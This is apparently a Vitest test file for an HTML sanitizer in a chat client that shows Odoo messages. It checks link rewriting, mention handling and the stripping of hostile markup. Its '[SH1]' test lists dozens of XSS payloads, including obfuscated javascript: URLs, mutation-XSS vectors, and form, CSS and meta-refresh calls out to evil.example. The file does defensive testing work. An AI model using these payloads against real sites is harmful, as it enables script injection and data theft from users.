// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { createCleaner, plainParagraph } from "../../renderer/features/timeline/message-html.ts";
import { workspaceId } from "../support/builders.ts";
import { english } from "../../shared/text/languages.ts";

const clean = createCleaner(window);
const origin = { workspace: workspaceId(1), server: "https://odoo.example.com" };

function cleaned(html: string): string {
  const box = document.createElement("div");
  box.append(clean(html, origin, english).cloneNode(true));
  return box.innerHTML;
}

/** Anything in it that could run, call out, or dress up. */
function dangersIn(html: string): readonly string[] {
  const box = document.createElement("div");
  box.append(clean(html, origin, english).cloneNode(true));
  const found: string[] = [];
  for (const element of box.querySelectorAll("*")) {
    if (
      !/^(?:A|B|STRONG|I|EM|U|S|CODE|PRE|BLOCKQUOTE|P|BR|DIV|SPAN|UL|OL|LI|IMG|BUTTON|H[1-6]|TABLE|TBODY|TR|TD)$/.test(
        element.tagName,
      )
    )
      found.push(element.tagName);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^class$|^id$|^name$|^srcset$|^background$|^action$|^formaction$|^xlink/.test(name))
        found.push(name);
      if (name === "href" && !/^(?:https?|mailto):/.test(value)) found.push(value);
      if (name === "src" && !/^(?:parley-media:|data:image\/(?:png|jpeg|gif|webp);)/.test(value)) found.push(value);
    }
  }
  return found;
}

describe("[SH1] nothing hostile gets through", () => {
  test.each([
    `<script>alert(1)</script>`,
    `<img src=x onerror=alert(1)>`,
    `<svg onload=alert(1)>`,
    `<svg><script>alert(1)</script></svg>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
    `<iframe src="https://evil.example"></iframe>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<object data="evil.swf"></object><embed src="evil.swf">`,
    `<form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>`,
    `<link rel=stylesheet href="https://evil.example/x.css"><style>*{background:url(https://evil.example)}</style>`,
    `<meta http-equiv=refresh content="0;url=https://evil.example">`,
    `<base href="https://evil.example/">`,
    `<p style="background:url(https://evil.example/pixel)">x</p>`,
    `<div class="frame" id="root">x</div>`,
    `<div style="position:fixed;inset:0">x</div>`,
    `<a href="javascript:alert(1)">x</a>`,
    `<a href="jAvAsCrIpT:alert(1)">x</a>`,
    `<a href="java&#10;script:alert(1)">x</a>`,
    `<a href="&#x6A;avascript:alert(1)">x</a>`,
    `<a href=" javascript:alert(1)">x</a>`,
    `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<a href="file:///etc/passwd">x</a>`,
    `<a href="parley://open/1">x</a>`,
    `<a href="parley-media://x/attachment/1/full">x</a>`,
    `<img src="file:///etc/passwd">`,
    `<img src="parley-media://00000000-0000-4000-8000-000000000002/attachment/1/full">`,
    `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
    `<img srcset="https://evil.example/x 1x">`,
    `<video src="https://evil.example/x" autoplay></video><audio src=x></audio><picture><source srcset="https://evil.example/x"></picture>`,
    `<table background="https://evil.example/x"><tr><td>x</td></tr></table>`,
    `<input autofocus onfocus=alert(1)>`,
    `<details open ontoggle=alert(1)>x</details>`,
    `<template><script>alert(1)</script></template>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
    `<!--><img src=x onerror=alert(1)>-->`,
    `<a href="https://ok.example" onclick=alert(1) ping="https://evil.example">x</a>`,
    `<p><img name=getElementById><img id=body></p>`,
    `<custom-element onfoo=alert(1)>x</custom-element>`,
    `<p slot=x is=y>z</p>`,
  ])("%s", (html) => {
    expect(dangersIn(html)).toEqual([]);
  });
});

test("what people write stays as they wrote it", () => {
  const html =
    "<p>Hello <strong>you</strong>, <em>and</em> <code>x &lt; y</code></p><ul><li>one</li></ul><blockquote>said</blockquote><pre>a\n  b</pre>";
  expect(cleaned(html)).toBe(html);
});

test("direction and spans of a table survive, though they are no addresses", () => {
  const html = `<p dir="rtl">שלום</p><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>`;
  expect(cleaned(html)).toBe(html);
});

test("HTML typed as text stays text", () => {
  expect(cleaned("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")).toBe("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
});

test("[SH2] links lead out, a relative one to the server, and any other is only its words", () => {
  expect(cleaned(`<a href="https://a.example/x">a</a>`)).toBe(
    `<a href="https://a.example/x" rel="noopener noreferrer" title="https://a.example/x">a</a>`,
  );
  expect(cleaned(`<a href="/odoo/project/7">task</a>`)).toBe(
    `<a href="https://odoo.example.com/odoo/project/7" rel="noopener noreferrer" title="https://odoo.example.com/odoo/project/7">task</a>`,
  );
  expect(cleaned(`<a href="javascript:x()">words</a>`)).toBe("<span>words</span>");
  expect(cleaned(`<a href="//evil.example/x">words</a>`)).toBe("<span>words</span>");
});

test("a page of the server that changes something by being opened is no link, and its words become none", () => {
  expect(cleaned(`<a href="/web/session/logout">https://a.example</a>`)).toBe("<span>https://a.example</span>");
  expect(cleaned("<p>https://odoo.example.com/web/session/logout <b>x</b></p>")).toBe(
    "<p><span>https://odoo.example.com/web/session/logout</span> <b>x</b></p>",
  );
});

test("the sender cannot choose the tooltip of a link", () => {
  expect(cleaned(`<a href="https://evil.example/" title="https://bank.example/">x</a>`)).toBe(
    `<a href="https://evil.example/" rel="noopener noreferrer" title="https://evil.example/">x</a>`,
  );
});

test.each([
  ["the panel of pinned messages", `<a href="#" data-oe-type="pin-menu">words</a>`],
  ["the list of threads", `<a href="#" data-oe-type="sub-channels-menu">words</a>`],
  ["a message to be highlighted", `<a href="#" data-oe-type="highlight" data-oe-id="299">words</a>`],
  ["a record that only the web client opens", `<a href="#" data-oe-model="project.task" data-oe-id="5">words</a>`],
  ["the top of the page", `<a href="#">words</a>`],
])("a link of Odoo's web client to %s is text here", (_what, html) => {
  expect(cleaned(html)).toBe("<span>words</span>");
});

test("a conversation that is mentioned is a way to it, and one without a number is only marked", () => {
  const link = (id: string) =>
    `<a href="#" class="o_channel_redirect" data-oe-id="${id}" data-oe-model="discuss.channel">#general</a>`;
  expect(cleaned(link("16"))).toBe(`<button data-mention="" type="button" data-channel="16">#general</button>`);
  for (const id of ["", "0", "-1", "1.5", "x"]) expect(cleaned(link(id))).toBe(`<span data-mention="">#general</span>`);
});

test("who is mentioned is marked, and is no link", () => {
  expect(
    cleaned(
      `<a href="https://odoo.example.com/odoo/res.partner/3" data-oe-model="res.partner" data-oe-id="3">@Mitchell</a>`,
    ),
  ).toBe(`<span data-mention="">@Mitchell</span>`);
});

test("addresses in the text become links, but not in code, and not twice", () => {
  expect(cleaned("<p>see https://a.example/x and <code>https://b.example</code></p>")).toBe(
    `<p>see <a href="https://a.example/x" rel="noopener noreferrer" title="https://a.example/x">https://a.example/x</a> and <code>https://b.example</code></p>`,
  );
  expect(cleaned(`<a href="https://a.example/">https://a.example/</a>`)).toBe(
    `<a href="https://a.example/" rel="noopener noreferrer" title="https://a.example/">https://a.example/</a>`,
  );
});

test("a message is cleaned once, and its nodes are not given away", () => {
  const html = "<p>the <b>same</b></p>";
  const first = clean(html, origin, english);
  expect(clean(html, origin, english)).toBe(first);
  expect(clean(html, { ...origin, workspace: workspaceId(2) }, english)).not.toBe(first);
});

test("most messages are plain, and the others are not taken for it", () => {
  expect(["<p>hello</p>", "hello", "<p></p>", ""].map(plainParagraph)).toEqual(["hello", "hello", "", ""]);
  expect(["<p>a</p><p>b</p>", "<b>x</b>", "<p>a &amp; b</p>", "a<br>b"].map(plainParagraph)).toEqual([
    null,
    null,
    null,
    null,
  ]);
});
